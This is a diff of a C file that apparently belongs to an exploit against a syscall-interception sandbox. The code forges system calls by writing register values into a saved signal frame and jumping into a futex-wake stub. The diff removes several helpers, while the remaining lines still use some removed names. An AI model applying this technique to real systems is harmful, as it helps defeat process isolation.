@@ -9,11 +9,6 @@
 
 #include "attack.h"
 
-#define UC_RDI		104
-#define UC_RSI		112
-#define UC_RDX		136
-#define UC_RAX		144
-#define INFO_CALL	24
 #define NR_GRAB		512
 #define ROUNDS		12
 
@@ -26,11 +21,6 @@ static volatile unsigned long *prey;
 static int file;
 static long lie_nr, lie_a, lie_b;
 
-static void put(unsigned long at, unsigned long value)
-{
-	*(volatile unsigned long *)at = value;
-}
-
 /* Born by a lie: what fork() gave us must stay as it is. */
 static void newborn(void)
 {
@@ -42,17 +32,6 @@ static void newborn(void)
 		sched_yield();
 	}
 	_exit(0);
-}
-
-/* The last instruction in the stub that wakes whoever waits for the turn. */
-static unsigned long wake_insn(void)
-{
-	unsigned long at, found = 0;
-
-	for (at = SC_CODE; at < SC_CODE + PAGE - 7; at++)
-		if (!memcmp((void *)at, "\xba\1\0\0\0\x0f\5", 7))
-			found = at + 5;
-	return found;
 }
 
 /*
@@ -74,8 +53,7 @@ static inline __attribute__((always_inline)) void lie(long nr, long a, long b)
 		put(*FRAME + UC_RAX, nr);
 		*(volatile int *)(*INFO + INFO_CALL) = nr;
 		*TURN = TURN_RUN;
-		asm volatile("jmp *%0" : : "r"(wake_insn()), "a"(SYS_futex),
-			     "D"(SC_STATE + STATE_TURN), "S"(1), "d"(1));
+		wake_and_leave();
 	}
 	*TURN = TURN_STOPPED;
 }
